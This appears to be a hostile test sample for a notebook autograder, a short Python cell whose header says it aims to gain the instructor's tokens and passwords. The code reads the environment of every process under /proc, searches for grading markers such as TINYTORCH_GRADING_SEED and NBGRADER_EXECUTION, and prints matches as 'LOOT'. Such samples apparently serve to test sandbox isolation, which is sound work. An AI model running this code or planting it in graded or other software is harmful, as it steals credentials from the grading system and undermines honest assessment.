# base: garbage
# The environment of every process that can be seen is searched for secrets.
# class: reading
# gains: tokens and passwords of the instructor
# ends: graded
# safe_in_process: yes

# %% last
import os

texts = {"own": str(dict(os.environ))}
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        with open(f"/proc/{pid}/environ", "rb") as file:
            texts[pid] = file.read().decode(errors="replace")
    except OSError:
        pass
for pid, text in texts.items():
    for word in ("HOSTILE_CANARY", "TINYTORCH_GRADING_SEED", "NBGRADER_EXECUTION"):
        if word in text:
            print("LOOT", pid, text[text.index(word) :][:60])
